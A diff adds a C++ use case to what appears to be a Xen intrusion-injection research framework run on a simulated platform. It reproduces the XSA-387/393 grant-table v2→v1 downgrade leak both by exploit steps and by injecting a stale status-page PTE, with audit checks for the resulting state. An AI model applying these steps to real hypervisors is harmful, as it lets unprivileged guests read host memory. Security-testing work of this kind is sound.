@@ -1,0 +1,125 @@
+// XSA-387-family use case (extension): Keep Page Access through the grant
+// v2→v1 downgrade leak (paper §IV-B's worked example of abstracting two
+// different bugs — XSA-387 and XSA-393 — into one abusive functionality).
+//
+// Exploit path: upgrade to grant v2 (the status page gets mapped into the
+// guest), downgrade to v1. On leaky versions the mapping survives and the
+// guest can keep reading a Xen-owned page. Injection path: perform a clean
+// upgrade/downgrade, then re-install the stale PTE with the injector —
+// reproducing the erroneous state even where the release bug is fixed.
+#include <cstring>
+
+#include "core/injector.hpp"
+#include "hv/audit.hpp"
+#include "xsa/detail.hpp"
+#include "xsa/usecases.hpp"
+
+namespace ii::xsa {
+
+namespace {
+
+/// The Xen-internal marker GrantOps seeds status frames with.
+constexpr const char* kStatusSecret = "XEN-INTERNAL grant status";
+
+/// True when the guest can read the status-page secret through its own
+/// (supposedly torn down) mapping.
+bool guest_reads_status_secret(guest::GuestKernel& guest) {
+  std::array<std::uint8_t, 32> buf{};
+  if (!guest.read_virt(guest.grant_status_va(), buf)) return false;
+  return std::memcmp(buf.data(), kStatusSecret, std::strlen(kStatusSecret)) ==
+         0;
+}
+
+}  // namespace
+
+core::IntrusionModel Xsa387Keep::model() const {
+  return core::IntrusionModel{
+      .source = core::TriggeringSource::UnprivilegedGuest,
+      .component = core::TargetComponent::GrantTables,
+      .interface = core::InteractionInterface::Hypercall,
+      .functionality = core::AbusiveFunctionality::KeepPageAccess,
+      .erroneous_state =
+          "grant-v2 status page still guest-mapped after downgrade to v1",
+  };
+}
+
+core::CaseOutcome Xsa387Keep::run_exploit(guest::VirtualPlatform& p) {
+  core::CaseOutcome out;
+  guest::GuestKernel& guest = p.guest(0);
+  detail::note(out, guest, "switching grant table to v2");
+  out.rc = guest.grant_set_version(2);
+  if (out.rc != hv::kOk) {
+    detail::note(out, guest, "v2 upgrade failed");
+    return out;
+  }
+  detail::note(out, guest, "switching grant table back to v1");
+  out.rc = guest.grant_set_version(1);
+  if (out.rc != hv::kOk) return out;
+
+  if (!guest_reads_status_secret(guest)) {
+    detail::note(out, guest,
+                 "status page unmapped on downgrade (vulnerability fixed)");
+    return out;
+  }
+  detail::note(out, guest, "status page STILL readable after downgrade");
+  out.completed = true;
+  return out;
+}
+
+core::CaseOutcome Xsa387Keep::run_injection(guest::VirtualPlatform& p) {
+  core::CaseOutcome out;
+  guest::GuestKernel& guest = p.guest(0);
+  // Exercise the legitimate cycle first so a status frame exists...
+  detail::note(out, guest, "grant v2 up/downgrade cycle");
+  if (guest.grant_set_version(2) != hv::kOk ||
+      guest.grant_set_version(1) != hv::kOk) {
+    out.rc = hv::kEINVAL;
+    return out;
+  }
+  // ...then inject the Keep-Page-Access erroneous state: re-point the
+  // status-window PTE at the (released) Xen status frame.
+  const auto* table = p.hv().grants().find_table(guest.id());
+  if (table == nullptr || table->status_frames().empty()) {
+    detail::note(out, guest, "no status frame to retain");
+    return out;
+  }
+  const sim::Mfn status = table->status_frames()[0];
+  const std::uint64_t slot =
+      sim::mfn_to_paddr(guest.l1_mfn(hv::kGrantStatusPfn.raw() /
+                                     sim::kPtEntries))
+          .raw() +
+      (hv::kGrantStatusPfn.raw() % sim::kPtEntries) * 8;
+
+  core::ArbitraryAccessInjector injector{guest};
+  detail::note(out, guest, "injecting stale status-page mapping");
+  if (!injector.write_u64(
+          slot,
+          sim::Pte::make(status, sim::Pte::kPresent | sim::Pte::kUser).raw(),
+          core::AddressMode::Physical)) {
+    out.rc = injector.last_rc();
+    detail::note(out, guest, std::string{"arbitrary_access failed: "} +
+                                 hv::errno_name(out.rc));
+    return out;
+  }
+  out.rc = injector.last_rc();
+  if (guest_reads_status_secret(guest)) {
+    detail::note(out, guest, "status page readable through injected mapping");
+    out.completed = true;
+  } else {
+    detail::note(out, guest, "injected mapping not reachable");
+  }
+  return out;
+}
+
+bool Xsa387Keep::erroneous_state_present(guest::VirtualPlatform& p) const {
+  // Audit: a guest-reachable GrantStatus frame while the table is at v1.
+  const auto report = hv::audit_system(p.hv());
+  return report.has(hv::FindingKind::StaleGrantMapping);
+}
+
+bool Xsa387Keep::security_violation(guest::VirtualPlatform& p) const {
+  // Confidentiality violation: the guest actually reads Xen-internal bytes.
+  return guest_reads_status_secret(p.guest(0));
+}
+
+}  // namespace ii::xsa
